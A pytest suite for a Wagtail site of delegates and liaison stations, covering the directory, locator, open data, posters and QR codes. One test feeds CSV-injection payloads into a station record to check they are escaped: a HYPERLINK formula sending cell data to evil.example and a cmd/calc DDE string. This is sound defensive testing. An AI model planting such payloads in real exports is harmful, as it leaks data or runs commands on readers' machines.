"""Public pages: directory, locator without JavaScript, receptions, open data, posters, QR."""

import csv
import io
import json

import pytest

from delegates.choices import Level
from delegates.geo import wgs84_to_gcj02


@pytest.fixture
def district(make_station, make_delegate, make_session, streets, group):
    east = make_station(
        title="东城联络站",
        lat=30.8725,
        lng=120.1121,
        street=streets[0],
        communities=["幸福社区", "和平社区"],
    )
    west = make_station(
        title="青石联络站",
        lat=30.9051,
        lng=120.0213,
        street=streets[1],
        communities=["青石村", "金桥村"],
    )
    # Community points: 幸福社区 sits right next to 东城, 金桥村 next to 青石.
    for station, name, lat, lng in [
        (east, "幸福社区", 30.8730, 120.1125),
        (west, "金桥村", 30.9049, 120.0220),
    ]:
        community = station.communities.get(name=name)
        community.latitude, community.longitude = lat, lng
        community.save()
    zhang = make_delegate(
        name="张子平", station=east, levels=(Level.COUNTY, Level.CITY), delegation_group=group
    )
    make_delegate(name="王建国", station=west, levels=(Level.TOWNSHIP,))
    make_delegate(name="李秀兰", station=east, levels=(Level.COUNTY,))
    make_delegate(name="陈晓燕", station=west, levels=(Level.COUNTY,))
    make_session(east, days_ahead=9, delegates=[zhang], topic="居家养老")
    return east, west


def names_in_order(html, names):
    return sorted(names, key=html.index)


@pytest.mark.django_db
def test_directory_sorted_by_pinyin_not_code_point(district, client, delegate_index):
    html = client.get(delegate_index.url).content.decode()
    names = ["张子平", "王建国", "李秀兰", "陈晓燕"]
    # chen < li < wang < zhang; in code-point order 张 (U+5F20) would precede 李 (U+674E).
    assert names_in_order(html, names) == ["陈晓燕", "李秀兰", "王建国", "张子平"]
    assert "共 4 名代表" in html


@pytest.mark.django_db
def test_directory_pages_count_all_matching_delegates(
    make_delegate, client, delegate_index, monkeypatch
):
    """The cards and the number of delegates come from one query; a page past the end, or not
    a number, still shows a page of the list with the same total."""
    monkeypatch.setattr("delegates.models.delegate.DIRECTORY_PAGE_SIZE", 2)
    for name in ["陈晓燕", "李秀兰", "王建国", "张子平", "赵丽"]:
        make_delegate(name=name)

    def page(number):
        response = client.get(f"{delegate_index.url}?page={number}")
        html = response.content.decode()
        assert "共 5 名代表" in html
        return [d.title for d in response.context["page_obj"].object_list]

    assert page(1) == ["陈晓燕", "李秀兰"]
    assert page(2) == ["王建国", "张子平"]
    assert page(3) == ["赵丽"]
    assert page(9) == ["赵丽"]
    assert page("x") == ["陈晓燕", "李秀兰"]
    filtered = client.get(f"{delegate_index.url}?q=秀兰").content.decode()
    assert "共 1 名代表" in filtered


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("level=city", {"张子平"}),
        ("level=township", {"王建国"}),
        ("q=秀兰", {"李秀兰"}),
        ("street={street0}", {"张子平", "李秀兰"}),
        ("group={group}", {"张子平"}),
        ("station={west}", {"王建国", "陈晓燕"}),
    ],
)
def test_directory_filters(district, client, delegate_index, streets, group, query, expected):
    _east, west = district
    query = query.format(street0=streets[0].pk, group=group.pk, west=west.pk)
    response = client.get(f"{delegate_index.url}?{query}")
    shown = {d.title for d in response.context["page_obj"].object_list}
    assert shown == expected


@pytest.mark.django_db
def test_delegate_profile_shows_roles_records_and_station(district, client, make_record):
    east, _west = district
    zhang = east.memberships.get(delegate__title="张子平").delegate
    make_record(zhang, title="参加居家养老专题视察", kind="inspection")
    html = client.get(zhang.url).content.decode()
    assert "市人大代表" in html and "区人大代表" in html
    assert "东城联络站" in html
    assert "参加居家养老专题视察" in html
    assert "视察 1" in html  # counts per kind in the year's heading
    assert "居家养老" in html  # upcoming reception


@pytest.mark.django_db
def test_locator_without_javascript_by_community(district, client, station_index):
    east, west = district
    page = client.get(station_index.url + "locator/").content.decode()
    assert '<option value="' in page and "金桥村" in page  # communities offered in a plain select
    community = west.communities.get(name="金桥村")
    response = client.get(station_index.url + "locator/", {"community": community.pk})
    html = response.content.decode()
    results = response.context["results"]
    assert [r["station"].title for r in results] == ["青石联络站", "东城联络站"]
    assert results[0]["distance"] < 100
    assert "离“金桥村”最近的联络站" in html
    assert "覆盖该社区（村）的联络站" in html
    assert "王建国" in html  # the delegates there
    assert response["X-Robots-Tag"] == "noindex"


@pytest.mark.django_db
def test_locator_by_position_street_and_name(district, client, station_index, streets):
    url = station_index.url + "locator/"
    near_east = client.get(url, {"lat": "30.8726", "lng": "120.1120"}).context["results"]
    assert near_east[0]["station"].title == "东城联络站"
    assert near_east[0]["next_session"].topic == "居家养老"
    by_street = client.get(url, {"street": streets[1].pk}).context["results"]
    assert by_street[0]["station"].title == "青石联络站"
    by_name = client.get(url, {"q": "幸福"})
    assert [c.name for c in by_name.context["covering"]] == ["幸福社区"]
    assert by_name.context["results"][0]["station"].title == "东城联络站"
    nothing = client.get(url, {"q": "不存在"}).content.decode()
    assert "没有找到名称含“不存在”的社区（村）" in nothing


@pytest.mark.django_db
def test_locator_rejects_bad_coordinates(district, client, station_index):
    response = client.get(station_index.url + "locator/", {"lat": "200", "lng": "120"})
    assert response.context["results"] == []
    assert not response.context["form"].is_valid()
    half = client.get(station_index.url + "locator/", {"lat": "30.1"})
    assert "定位信息不完整" in half.content.decode()


@pytest.mark.django_db
def test_map_data_is_json_and_converted_for_gcj02_tiles(district, client, settings):
    east, _west = district
    html = client.get(east.url).content.decode()
    data = json.loads(
        html.split('<script id="map-data" type="application/json">')[1].split("</script>")[0]
    )
    assert data["points"][0]["lat"] == pytest.approx(east.latitude, abs=1e-6)
    assert "<script>" not in html  # no inline scripts: only JSON data and static files
    assert "vendor/leaflet/leaflet.js" in html
    settings.MAP_TILE_CRS = "gcj02"
    html = client.get(east.url).content.decode()
    data = json.loads(
        html.split('<script id="map-data" type="application/json">')[1].split("</script>")[0]
    )
    lat, lng = wgs84_to_gcj02(east.latitude, east.longitude)
    assert data["points"][0]["lat"] == pytest.approx(lat, abs=1e-6)
    assert data["points"][0]["lng"] == pytest.approx(lng, abs=1e-6)
    settings.MAP_TILE_URL = "https://tiles.example/{z}/{x}/{y}.png"
    settings.LEAFLET_AVAILABLE = False  # npm not run: no map, no reference to missing files
    html = client.get(east.url).content.decode()
    assert "map-data" not in html and "vendor/leaflet" not in html
    assert "东城联络站" in html


@pytest.mark.django_db
def test_receptions_page_filters(district, client, station_index, streets, make_session):
    east, west = district
    make_session(west, days_ahead=12, topic="农村人居环境整治")
    url = station_index.url + "receptions/"
    assert len(client.get(url).context["page_obj"].object_list) == 2
    only_west = client.get(url, {"station": west.pk}).context["page_obj"].object_list
    assert [s.topic for s in only_west] == ["农村人居环境整治"]
    by_delegate = client.get(url, {"delegate": "张子平"}).context["page_obj"].object_list
    assert [s.topic for s in by_delegate] == ["居家养老"]
    by_street = client.get(url, {"street": streets[1].pk}).context["page_obj"].object_list
    assert [s.station_id for s in by_street] == [west.pk]


@pytest.mark.django_db
def test_open_data(district, client, station_index):
    east, _west = district
    geo = client.get("/open-data/stations.geojson")
    collection = json.loads(geo.content)
    assert collection["type"] == "FeatureCollection"
    feature = next(f for f in collection["features"] if f["properties"]["name"] == "东城联络站")
    assert feature["geometry"] == {"type": "Point", "coordinates": [120.1121, 30.8725]}
    assert feature["properties"]["communities"] == "幸福社区、和平社区"

    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/open-data/stations.csv").content.decode("utf-8-sig"))
        )
    )
    assert {r["名称"] for r in rows} == {"东城联络站", "青石联络站"}
    assert rows[0]["纬度"]

    people = json.loads(client.get("/open-data/delegates.json").content)["delegates"]
    zhang = next(p for p in people if p["name"] == "张子平")
    assert zhang["stations"] == "东城联络站"
    assert "code" not in zhang and "bio" not in zhang  # public fields only
    delegates_csv = client.get("/open-data/delegates.csv").content.decode("utf-8-sig")
    assert delegates_csv.splitlines()[0].startswith("姓名,性别,代表层级")
    assert client.get("/open-data/secrets.txt").status_code == 404

    page = client.get(station_index.url + "open-data/").content.decode()
    for link in [
        "stations.geojson",
        "stations.csv",
        "delegates.csv",
        "delegates.json",
        "receptions.ics",
        "/feeds/receptions.xml",
    ]:
        assert link in page


@pytest.mark.django_db
def test_poster_and_qr_codes(district, client):
    east, _west = district
    html = client.get(east.url + "poster/").content.decode()
    for text in [
        "东城联络站",
        "张子平",
        "李秀兰",
        "13812345678",
        "居家养老",
        "工作日 9:00-17:00",
        f"/qr/{east.pk}.svg",
        "css/poster.css",
    ]:
        assert text in html
    png = client.get(f"/qr/{east.pk}.png")
    assert png["Content-Type"] == "image/png" and png.content[:8] == b"\x89PNG\r\n\x1a\n"
    svg = client.get(f"/qr/{east.pk}.svg")
    assert svg["Content-Type"] == "image/svg+xml" and b"<svg" in svg.content
    delegate = east.memberships.first().delegate
    assert client.get(f"/qr/{delegate.pk}.png").status_code == 200
    assert client.get(f"/qr/{east.get_parent().pk}.png").status_code == 404
    assert client.get(f"/qr/{east.pk}.gif").status_code == 404


def test_qr_encodes_the_page_url():
    import segno

    from delegates.qr import make_qr

    url = "http://testserver/stations/station-1/"
    assert make_qr(url, "svg") == make_qr(url, "svg")
    code = segno.make(url, error="m", micro=False)
    buffer = io.BytesIO()
    code.save(buffer, kind="png", scale=10, border=2)
    assert make_qr(url, "png") == buffer.getvalue()


@pytest.mark.django_db
def test_station_list_grouped_by_street(district, client, station_index, streets):
    html = client.get(station_index.url).content.decode()
    assert names_in_order(html, ["东城街道", "青石镇"]) == ["东城街道", "青石镇"]
    assert "共 2 个联络站" in html
    only = client.get(station_index.url, {"street": streets[1].pk}).content.decode()
    assert "青石联络站" in only and "东城联络站" not in only


@pytest.mark.django_db
def test_duty_report_page_links_to_its_delegate(make_delegate, make_report, client):
    from news.choices import ReportKind

    delegate = make_delegate(name="郑雪梅")
    report = make_report(
        title="郑雪梅代表2025年度述职报告", report_kind=ReportKind.DUTY, delegate=delegate
    )
    html = client.get(report.url).content.decode()
    assert f'<a href="{delegate.url}">郑雪梅</a>' in html
    profile = client.get(delegate.url).content.decode()
    assert "郑雪梅代表2025年度述职报告" in profile


@pytest.mark.django_db
def test_station_urls_route_to_stations_and_index_routes_keep_precedence(
    make_station, station_index, client
):
    station = make_station(title="人民路联络站")
    shadow = make_station(title="名为overview的站")
    shadow.slug = "overview"
    shadow.save()
    assert shadow.url.endswith("/overview/")
    assert "人民路联络站" in client.get(station.url).content.decode()
    assert client.get(f"{station.url}poster/").status_code == 200
    # The index's own page wins over a station that happens to be called "overview".
    assert "五上墙公开情况一览" in client.get(shadow.url).content.decode()
    station.unpublish()
    assert client.get(station.url).status_code == 404
    assert client.get(f"{station_index.url}no-such-station/").status_code == 404


@pytest.mark.django_db
def test_a_station_url_is_routed_without_reading_the_index_row(make_station, client):
    """The station index routes a station's URL from the routing chain's row: its own
    specific row (delegates_stationindexpage) is not read for a station page."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    station = make_station(title="人民路联络站")
    client.get(station.url)
    with CaptureQueriesContext(connection) as context:
        response = client.get(station.url)
    assert "人民路联络站" in response.content.decode()
    assert not [q for q in context.captured_queries if "delegates_stationindexpage" in q["sql"]]
    with CaptureQueriesContext(connection) as context:
        response = client.get(f"{station.url}poster/")
    assert response.status_code == 200
    assert not [q for q in context.captured_queries if "delegates_stationindexpage" in q["sql"]]


@pytest.mark.django_db
def test_open_data_csv_does_not_carry_live_formulas(client, station_index, make_station):
    """Text a liaison may edit is written so that a spreadsheet shows it instead of running it;
    numbers (a negative coordinate too) stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    make_station(
        title=formula,
        address="+1+cmd|' /C calc'!A0",
        opening_hours="-2+3",
        liaison_name="@SUM(1+1)",
        lat=-33.8688,
        lng=151.2093,
    )
    body = client.get("/open-data/stations.csv").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["名称"] == "'" + formula
    assert row["地址"] == "'+1+cmd|' /C calc'!A0"
    assert row["开放时间"] == "'-2+3"
    assert row["联络员"] == "'@SUM(1+1)"
    assert row["联络员电话"] == "13812345678"
    assert (row["纬度"], row["经度"]) == ("-33.8688", "151.2093")


def test_csv_cell_neutralises_only_formula_text():
    from delegates.opendata import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+86", "-x", "@a", "\tx", "\rx")] == [
        "'=1+1",
        "'+86",
        "'-x",
        "'@a",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in (-1.5, 3, None, "幸福社区", "0572-2345678")] == [
        -1.5,
        3,
        "",
        "幸福社区",
        "0572-2345678",
    ]


@pytest.mark.django_db
def test_directory_cards_show_a_photo_as_the_image_tag_writes_it(district, client, delegate_index):
    """The cards are written in Python (delegates/templatetags/directory_tags.py): a photo is
    the img tag {% image photo fill-96x128 class="delegate-card__photo" %} writes."""
    from django.core.files.base import ContentFile
    from django.template import Context, Template
    from PIL import Image as PILImage
    from wagtail.images import get_image_model

    from delegates.models import DelegatePage

    buffer = ContentFile(b"", name="portrait.png")
    PILImage.new("RGB", (120, 160), "red").save(buffer, format="PNG")
    photo = get_image_model().objects.create(title="照片", file=buffer, description="张子平")
    zhang = DelegatePage.objects.get(title="张子平")
    zhang.photo = photo
    zhang.save_revision().publish()
    html = client.get(delegate_index.url).content.decode()
    expected = Template(
        '{% load wagtailimages_tags %}{% image photo fill-96x128 class="delegate-card__photo" %}'
    ).render(Context({"photo": photo}))
    assert 'class="delegate-card__photo"' in expected
    assert expected in html
    # The others keep the initial of their name.
    assert '<span class="delegate-card__avatar" aria-hidden="true">王</span>' in html
